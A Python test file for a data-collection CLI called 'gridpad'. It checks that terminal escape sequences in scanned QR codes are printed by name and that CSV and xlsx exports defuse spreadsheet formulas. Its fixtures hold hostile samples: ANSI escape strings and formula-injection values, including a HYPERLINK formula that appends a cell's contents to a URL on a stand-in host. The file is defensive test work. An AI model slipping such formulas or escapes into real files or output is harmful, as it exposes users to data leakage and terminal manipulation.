"""What `gridpad` writes for people is safe to open (issue #9, item 15): `scan --raw` never sends a
raw control character to the terminal, whichever backend read the code, and CSV/xlsx exports
never hand a spreadsheet a formula to run, while numbers stay numbers and jsonl stays exact."""

from __future__ import annotations

import csv
import json
import zipfile
from collections.abc import Sequence
from pathlib import Path

import openpyxl
import pytest
import qrcode
from support.cli import GRID, grid_line, gridpad, jsonl

HOSTILE = "plate\x1b[2J\x1b]0;owned\x07ok\t中文\x7f\x9b"
SHOWN = "plate<ESC>[2J<ESC>]0;owned<BEL>ok<HT>中文<DEL><U+9B>"


@pytest.mark.parametrize("backend", ["zbar", "zxing"])
def test_scan_raw_writes_control_characters_out_by_name(tmp_path: Path, backend: str) -> None:
    image = tmp_path / "code.png"
    with image.open("wb") as f:
        qrcode.make(HOSTILE.encode()).save(f)
    r = gridpad(tmp_path / "data", "scan", "--raw", "--backend", backend, str(image))
    assert r.returncode == 0, r.stderr
    assert r.stdout == SHOWN + "\n"


FORMULAS = {
    "address": '=HYPERLINK("http://x.example/?"&A1,"点我")',
    "road": "+1",
    "door_no": "-5号",
    "name": "@SUM(1)",
}


@pytest.fixture
def data(tmp_path: Path) -> Path:
    d = tmp_path / "data"
    building = {"table": "building", "id": "b-1",
                "fields": {"grid_id": GRID, **FORMULAS, "lat": -22.5, "lng": -113.7, "floors_above": 3}}
    r = gridpad(d, "apply", str(jsonl(tmp_path / "e.jsonl", grid_line(), building)))
    assert r.returncode == 0, r.stdout + r.stderr
    return d


def _by_column(header: Sequence[object], row: Sequence[object]) -> dict[str, object]:
    return {str(h).rsplit(" ", 1)[-1]: v for h, v in zip(header, row, strict=True)}


@pytest.mark.parametrize("zipped", [False, True], ids=["folder", "zip"])
def test_csv_export_quotes_formulas_and_leaves_numbers(data: Path, tmp_path: Path, zipped: bool) -> None:
    out = tmp_path / ("out.zip" if zipped else "out")
    r = gridpad(data, "export", "--format", "csv", "--out", str(out))
    assert r.returncode == 0, r.stderr
    text = (zipfile.ZipFile(out).read("building.csv").decode("utf-8") if zipped
            else (out / "building.csv").read_text(encoding="utf-8"))
    header, row = list(csv.reader(text.lstrip("\ufeff").splitlines()))
    cells = _by_column(header, row)
    assert {k: cells[k] for k in FORMULAS} == {k: "'" + v for k, v in FORMULAS.items()}
    assert (cells["lat"], cells["lng"], cells["floors_above"]) == ("-22.5", "-113.7", "3")


def test_xlsx_export_quotes_formulas_and_keeps_number_cells(data: Path, tmp_path: Path) -> None:
    out = tmp_path / "out.xlsx"
    assert gridpad(data, "export", "--format", "xlsx", "--out", str(out)).returncode == 0
    sheet = openpyxl.load_workbook(out)["楼栋"]
    header, row = (list(r) for r in sheet.iter_rows(values_only=True))
    cells = _by_column([str(h) for h in header], row)
    assert {k: cells[k] for k in FORMULAS} == {k: "'" + v for k, v in FORMULAS.items()}
    assert (cells["lat"], cells["lng"], cells["floors_above"]) == (-22.5, -113.7, 3)
    assert not any(c.data_type == "f" for line in sheet.iter_rows() for c in line)  # no formula cell


def test_jsonl_export_stays_exact(data: Path) -> None:
    r = gridpad(data, "export")
    assert r.returncode == 0, r.stderr
    building = next(x for x in map(json.loads, r.stdout.splitlines()) if x["table"] == "building")
    assert {k: building["fields"][k] for k in FORMULAS} == FORMULAS
    assert building["fields"]["lng"] == -113.7


def test_csv_export_imports_back_exactly_with_the_guard_undone(data: Path, tmp_path: Path) -> None:
    """Export → import round-trips: the ``'`` the export put before a formula start comes off
    again (and only that quote), numbers, booleans and empty cells come back as they were."""
    person = {"table": "person", "id": "p-1", "fields": {
        "grid_id": GRID, "name": "'王芳", "employer": "-某电子厂", "occupation": "@夜班",
        "hukou_address": "''=双引号", "is_demo": True}}
    r = gridpad(data, "apply", str(jsonl(tmp_path / "p.jsonl", person)))
    assert r.returncode == 0, r.stdout + r.stderr
    out = tmp_path / "out"
    assert gridpad(data, "export", "--format", "csv", "--out", str(out)).returncode == 0
    before = gridpad(data, "export").stdout

    again = tmp_path / "again"
    r = gridpad(again, "import", str(out))
    assert r.returncode == 0, r.stdout + r.stderr
    assert "rejected 0" in r.stdout
    assert gridpad(again, "export").stdout == before  # every field as exported, no quote kept
    fields = next(x for x in map(json.loads, before.splitlines()) if x["id"] == "p-1")["fields"]
    kept = (fields["name"], fields["employer"], fields["hukou_address"])
    assert kept == ("'王芳", "-某电子厂", "''=双引号")

    # The same files into the device they came from: nothing to change, nothing to sync.
    r = gridpad(data, "import", str(out / "building.csv"))
    assert r.returncode == 0 and "unchanged 1" in r.stdout and "updated 0" in r.stdout, r.stdout


def test_registry_error_file_guards_formulas_and_reimports_them_unguarded(tmp_path: Path) -> None:
    sheet = tmp_path / "登记.csv"
    sheet.write_text("姓名,手机号码,房屋地址,房间号,备注\n"
                     "张伟,12345,东莞市万江街道金龙路1号,301,=HYPERLINK(\"x\")\n", encoding="utf-8")
    data = tmp_path / "data"
    r = gridpad(data, "import", str(sheet), "--grid", GRID)
    assert r.returncode == 1  # the phone is refused: the row goes to the error file
    errors = tmp_path / "登记.errors.csv"
    header, row = list(csv.reader(errors.read_text(encoding="utf-8-sig").splitlines()))
    assert row[header.index("备注")] == "'=HYPERLINK(\"x\")"  # safe to open in a spreadsheet
    row[header.index("手机号码")] = "13800138000"
    with errors.open("w", encoding="utf-8-sig", newline="") as f:
        csv.writer(f).writerows([header, row])
    r = gridpad(data, "import", str(errors))
    assert r.returncode == 0, r.stdout + r.stderr
    exported = gridpad(data, "export").stdout
    tenancy = next(x for x in map(json.loads, exported.splitlines()) if x["table"] == "tenancy")
    assert tenancy["fields"]["note"] == "=HYPERLINK(\"x\")"


def test_import_of_a_missing_csv_says_so_in_one_line(tmp_path: Path) -> None:
    r = gridpad(tmp_path / "data", "import", str(tmp_path / "nothing.csv"))
    assert r.returncode != 0 and "Traceback" not in r.stderr
    assert r.stderr.strip() == f"gridpad import: {tmp_path / 'nothing.csv'}: no such file"
